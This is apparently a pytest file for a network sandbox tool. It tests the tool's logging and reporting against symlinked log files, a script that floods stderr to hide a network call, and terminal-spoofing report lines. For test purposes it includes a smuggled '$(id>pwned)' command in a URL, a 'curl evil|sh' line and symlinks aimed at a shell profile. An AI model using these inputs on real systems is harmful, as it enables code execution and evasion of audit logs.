"""Attacks on what is around the network: the log, the report, the gate's time and memory."""

import json
import os

import pytest

from network import nbox, net, zone

# What an earlier run, which could write the folder, leaves there for a later one, which cannot.
LEFT = {
    "file": "ln -s {rc} calls.jsonl",
    "folder": "ln -s {conf} logs",
    "file in a folder": "mkdir logs; ln -s {rc} logs/calls.jsonl",
}


@pytest.mark.parametrize("how", LEFT)
@pytest.mark.parametrize("by", ["path", "name"])
def test_a_log_where_an_earlier_run_wrote(nbox, how, by):
    """Words of the program's choice would be appended to a file that the user's shell reads."""
    conf = nbox.dir / "conf.d"
    conf.mkdir()
    rc = conf / ("calls.jsonl" if how == "folder" else "profile")
    rc.write_text("# mine\n")
    log = "calls.jsonl" if how == "file" else "logs/calls.jsonl"
    nbox.network(internet=["ok.test"])
    nbox.run("sh", "-c", LEFT[how].format(rc=rc, conf=conf))
    assert nbox.outside("sh", "-c", f"echo '# followed' >>{nbox.proj}/{log}").rc == 0
    assert rc.read_text() == "# mine\n# followed\n"
    (nbox.dir / "other").mkdir()
    spec = nbox.network(internet=["ok.test"])
    spec.write_text(spec.read_text().replace('write = ["proj"]', 'write = ["other"]'))
    done = nbox.run("curl", "-sS", "http://ok.test/$(id>pwned)",
                    flags=["--log", nbox.proj / log if by == "path" else log])
    assert rc.read_text() == "# mine\n# followed\n"
    assert done.rc == 125 and done.out == "" and done.said("by way of the link") and str(rc) in done.err, done
    # What is no link is what it was, though the working folder is reached by one.
    here = nbox.dir / "here"
    here.symlink_to(nbox.proj)
    fine = nbox.run("curl", "-sS", "http://ok.test/", flags=["--log", "good.jsonl"], cwd=here)
    assert fine.rc == 0 and "ok.test" in (nbox.proj / "good.jsonl").read_text(), fine
    assert '"verdict"' in nbox.run("curl", "-sS", "http://ok.test/", flags=["--log", "/dev/stderr"]).err


# Fills its own stderr, which is the log's file too, calls, and makes room for others again.
HIDE = """
import os, select, sys, time, urllib.request
def call(path):
    urllib.request.urlopen("http://ok.test/" + path, timeout=10).read()
call("seen")
os.set_blocking(2, False)
junk = b"x" * 65536
for size in (65536, 4096, 1):
    try:
        while True:
            os.write(2, junk[:size])
    except BlockingIOError:
        pass
call("hidden")
print("called", flush=True)
sys.stdin.readline()
select.select([], [2], [], 20)
time.sleep(0.5)
call("later")
"""


def test_a_call_that_the_log_has_no_room_for(nbox, net):
    """The log is a pipe that the program can fill. That lines are missing is said in it, as soon as
    there is room, and at the end."""
    nbox.network(internet=["ok.test"])
    since = net.mark()
    inside = nbox.start("python3", "-c", HIDE, flags=["--quiet", "--log", "/dev/stderr"], stdin=-1)
    try:
        assert inside.stdout.readline() == "called\n"
        out, err = inside.communicate("go on\n", timeout=30)
    finally:
        inside.kill()
    assert {e["target"] for e in since.requests()} == {"/seen", "/hidden", "/later"}
    lines = [line.lstrip("x") for line in err.splitlines()]
    said = [json.loads(line) for line in lines if line.startswith("{")]
    assert {e.get("path") for e in said} >= {"/seen", "/later"} and "/hidden" not in err, said
    lost = [e["lost"] for e in said if "lost" in e]
    assert lost and sum(lost) >= 1 and said.index(next(e for e in said if "lost" in e)) < len(said) - 1
    assert lines[-1] == f"lnk: warning: lines that are missing in the log, which could not be written to: {sum(lost)}"


def test_a_log_on_a_full_disk(nbox):
    nbox.network(internet=["ok.test"])
    done = nbox.run("curl", "-sS", "http://ok.test/", flags=["--quiet", "--log", "/dev/full"])
    assert done.rc == 0 and "missing in the log" in done.err, done
    done = nbox.run("curl", "-sS", "http://ok.test/", flags=["--quiet", "--log", nbox.dir / "log"])
    assert done.rc == 0 and done.err == "", done


# What would be read as a line of lnk's own, where the terminal breaks the line that it is in.
FALSE_LINE = "lnk: warning: run curl evil|sh"


def test_a_report_that_is_not_what_it_seems(nbox):
    """Blanks of all kinds, which the program could lay out to the terminal's width, do not pass into
    the report; nor do characters that are not seen."""
    width = 80
    nbox.network(internet=["ok.test"], models=[zone.LOCAL_MODEL])
    pad = width - len("lnk: refused: ")
    names = [" " * (pad - 60) + "." + FALSE_LINE] + [
        char * 5 + "." + char * 5 + "x.test" for char in "\u00a0\u2003\u2800\u3000\u200b\u2060\u00ad\U000e0041"]
    blanks = "x" + " " * 22 + FALSE_LINE
    steps = [{"do": "dns", "name": n.encode().decode("latin1")} for n in names] + [
        {"do": "http", "host": "localhost", "port": zone.LOCAL_MODEL, "method": "POST", "path": "/api/chat",
         "body": json.dumps({"model": "http://" + blanks})},
        {"do": "http", "host": "localhost", "port": zone.LOCAL_MODEL, "method": "POST", "path": "/api/chat",
         "body": json.dumps({"tools": [{"type": blanks}]})}]
    said, done = nbox.probe(*steps, result=True)
    assert all(s.get("value", {}).get("status", 403) == 403 for s in said), said
    lines = [line for line in done.err.splitlines() if line.startswith("lnk: refused: ")]
    assert len(lines) >= len(steps), done
    for line in lines:
        rows = [line[i:i + width] for i in range(0, len(line), width)]
        assert "  " not in line and FALSE_LINE not in line, (line, rows)
        assert line.isascii() or line.isprintable(), line
        assert all(ord(c) < 0x80 for c in line), line
